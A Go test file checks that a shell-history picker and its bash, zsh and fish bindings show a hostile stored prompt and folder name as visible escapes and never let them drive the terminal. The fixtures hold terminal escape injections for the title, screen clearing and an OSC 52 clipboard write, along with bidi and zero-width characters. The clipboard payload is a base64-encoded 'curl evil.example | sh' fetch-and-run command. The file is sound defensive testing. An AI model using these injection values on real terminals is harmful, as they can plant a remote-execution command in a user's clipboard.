//go:build unix

package main

// A prompt and a folder name that would drive the terminal if drawn raw:
// retitle it (OSC 0), clear the screen (CSI 2J), write the clipboard
// (OSC 52, which tmux takes into a paste buffer with set-clipboard on),
// reorder text (U+202E) or hide it (U+200B), with a byte that is not
// UTF-8, a newline and a tab. Every path that draws them, in real shells
// in tmux, must show them visibly; every path that gives them to a
// program must give the exact bytes.

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"hist/lib/record"
	"hist/lib/shellquote"
	"hist/lib/store"
)

const (
	termPrompt = "h1 \x1b]0;PWNTITLE\a cls\x1b[2J clip\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a " +
		"rlo\u202eolr zw\u200bzw bad\xff\nline2\tend it's"
	termFolder = "f\x1b]0;PWNTITLE\a\u202e\u200b\nx"
)

// newTermFixture is newHostileFixture with a project in termFolder
// holding termPrompt, with a pi session to resume.
func newTermFixture(t *testing.T) (*hostileFixture, string) {
	t.Helper()
	f := newHostileFixture(t)
	folder := filepath.Join(f.dir, termFolder)
	if err := os.Mkdir(folder, 0o700); err != nil {
		t.Fatal(err)
	}
	canon, err := store.Canonical(folder)
	if err != nil {
		t.Fatal(err)
	}
	st := store.Store{Root: filepath.Join(f.dir, "agent", "history")}
	hash := store.Hash(canon)
	if err := st.Register(hash, canon); err != nil {
		t.Fatal(err)
	}
	os.MkdirAll(st.ProjectDir(hash), 0o700)
	data := record.Append(nil, record.Record{Text: termPrompt, TS: 1700000009000, Src: "pi", Session: "good-id.2"})
	if err := os.WriteFile(filepath.Join(st.ProjectDir(hash), "seed.jsonl"), data, 0o600); err != nil {
		t.Fatal(err)
	}
	return f, canon
}

// undriven fails the test when the terminal was driven: its title set,
// the clipboard written, or the screen cleared (mark no longer shown).
func (tm *term) undriven(what, mark string) {
	tm.t.Helper()
	s := tm.screen()
	if title := tm.tmux("display-message", "-p", "-t", "t", "#{pane_title}"); strings.Contains(title, "PWNTITLE") {
		tm.t.Errorf("%s: the terminal's title became %q", what, title)
	}
	if bufs := tm.tmux("list-buffers"); bufs != "" {
		tm.t.Errorf("%s: the clipboard was written: %q", what, bufs)
	}
	if mark != "" && !strings.Contains(s, mark) {
		tm.t.Errorf("%s: the screen was cleared (%q is gone):\n%s", what, mark, s)
	}
}

func (tm *term) watchClipboard() { tm.tmux("set", "-g", "set-clipboard", "on") }

// The selector's row and preview, and what hist-pick prints on a
// terminal: visible escapes. Printed to a file: the exact bytes.
func TestHostileTextOnTerminal(t *testing.T) {
	t.Parallel()
	f, _ := newTermFixture(t)
	tm := newTerm(t, f.dir, 160, 45)
	tm.watchClipboard()
	for _, args := range []string{"", "--word", "--word --shell fish", "-0", "--json"} {
		tm.clear()
		tm.run("echo mark''er; hist-pick --all --query h1 " + args + "; echo" + done)
		// The row, and the preview's folder and prompt.
		tm.waitFor("the escaped row and preview", func(s string) bool {
			return strings.Contains(s, "   h1 ␛]0;PWNTITLE␇ cls␛[2J clip␛]52;c;") &&
				strings.Contains(s, "rlo<U+202E>olr zw<U+200B>zw bad<0xFF>\\nline2") &&
				strings.Contains(s, "Project  ") && strings.Contains(s, "f␛]0;PWNTITLE␇<U+202E><U+200B>\\nx") &&
				strings.Contains(s, "\nline2")
		})
		tm.keys("Enter")
		s := tm.waitDone()
		want := map[string]string{
			"":                    "h1 ␛]0;PWNTITLE␇ cls␛[2J clip␛]52;c;",
			"--word":              "'h1 ␛]0;PWNTITLE␇ cls␛[2J",
			"--word --shell fish": `'h1 '\e']0;PWNTITLE'\a' cls'\e'[2J`,
			"-0":                  "end it's␀",
			"--json":              `"text":"h1 \u001b]0;PWNTITLE\u0007`,
		}[args]
		if !strings.Contains(s, want) {
			t.Errorf("hist-pick %s on a terminal: the screen lacks %q:\n%s", args, want, s)
		}
		tm.undriven("hist-pick "+args, "marker")
	}

	// A file gets the exact bytes.
	out := filepath.Join(f.dir, "pick.out")
	tm.clear()
	tm.run("hist-pick --all --query h1 >" + shellquote.Quote(out, shellquote.POSIX) + done)
	tm.waitCount("1/1")
	tm.keys("Enter")
	tm.waitDone()
	if got, _ := os.ReadFile(out); string(got) != termPrompt+"\n" {
		t.Errorf("hist-pick >file: %q, want %q", got, termPrompt+"\n")
	}
}

// The key bindings of bash, zsh and fish: alt-r inserts the hostile
// prompt as a word the line editor shows with the shell's escapes, and
// that gives the exact bytes once run; ctrl-o inserts a resume command
// whose folder is escaped the same way and runs the agent in it.
func TestHostileBindingsInShells(t *testing.T) {
	t.Parallel()
	needTmux(t)
	for _, sh := range testShells {
		if sh.bind == "" {
			continue
		}
		t.Run(sh.name, func(t *testing.T) {
			t.Parallel()
			f, canon := newTermFixture(t)
			tm := sh.start(t, f)
			tm.watchClipboard()
			tm.run(sh.bind + "; clear" + done)
			tm.waitDone()
			time.Sleep(300 * time.Millisecond) // the line editor is reading
			out := filepath.Join(f.dir, "out.txt")

			tm.clear()
			tm.run("echo mark''er")
			tm.text("printf %s ")
			tm.keys("M-r")
			tm.waitCount("1/")
			tm.keys("Tab")
			tm.waitText("◉ All projects")
			tm.text("h1")
			tm.waitCount("1/1")
			tm.keys("Enter")
			word := `'h1 '$'\e'']0;PWNTITLE'$'\a'' cls'$'\e''[2J clip'`
			if sh.name == "fish" {
				word = `'h1 '\e']0;PWNTITLE'\a' cls'\e'[2J clip'`
			}
			tm.waitFor("the prompt on the line", func(s string) bool { return strings.Contains(s, "$ printf %s 'h1 ") })
			tm.undriven("alt-r", "echo mark''er")
			if s := tm.settle(); !strings.Contains(s, "$ printf %s "+word) {
				t.Errorf("alt-r: the line lacks %s:\n%s", word, s)
			}
			tm.text(" >" + shellquote.Quote(out, shellquote.POSIX) + done)
			tm.keys("Enter")
			tm.waitDone()
			if got, err := os.ReadFile(out); err != nil || string(got) != termPrompt {
				t.Errorf("printf %%s <alt-r>: printed %q (%v), want %q", got, err, termPrompt)
			}
			tm.undriven("alt-r, run", "")

			tm.clear()
			tm.run("echo mark''er")
			tm.keys("M-r")
			tm.waitCount("1/")
			tm.keys("Tab")
			tm.waitText("◉ All projects")
			tm.text("h1")
			tm.waitCount("1/1")
			tm.keys("C-o")
			tm.waitFor("the resume command on the line", func(s string) bool {
				return strings.Contains(s, "$ cd ") && strings.Contains(s, "pi --session good-id.2")
			})
			tm.undriven("ctrl-o", "echo mark''er")
			tm.text(done)
			tm.keys("Enter")
			tm.waitDone()
			if got, want := f.takeLog(), "cwd="+canon+"\narg=pi\narg=--session\narg=good-id.2\n"; got != want {
				t.Errorf("ctrl-o: the agents' log is %q, want %q", got, want)
			}
			// (Once in the folder, fish's own title shows its name raw.)
			f.wantNothingRan(t, "alt-r, ctrl-o")
		})
	}
}

// A project folder that cannot be read (mode 0000, root held to it with
// its override capabilities dropped): the selector opens with the rest,
// and its footer names the problem with the chmod that fixes it.
func TestUnreadableFolder(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("setpriv"); err != nil {
		t.Skip("needs setpriv to hold root to permissions")
	}
	f := newFixture(t)
	other := filepath.Join(f.store, "projects", f.other)
	if err := os.Chmod(other, 0); err != nil {
		t.Fatal(err)
	}
	defer os.Chmod(other, 0o700)
	tm := newTerm(t, f.dir, 200, 40)
	tm.clear()
	tm.run("clear; setpriv --bounding-set=-dac_override,-dac_read_search hist-pick --all >" + tm.dir + "/out 2>" + tm.dir + "/err; echo $? >" + tm.dir + "/code")
	s := tm.waitText("Some prompts are not listed (permission denied): chmod 700 " + other)
	if !strings.Contains(s, "legacy editor prompt") && !strings.Contains(s, "33 loaded") {
		t.Errorf("the rest is not listed:\n%s", s)
	}
	tm.keys("Enter")
	if code, out, _ := tm.result(); code != "0" || out != "fix the flaky test\n" {
		t.Errorf("exit %s, stdout %q", code, out)
	}
}
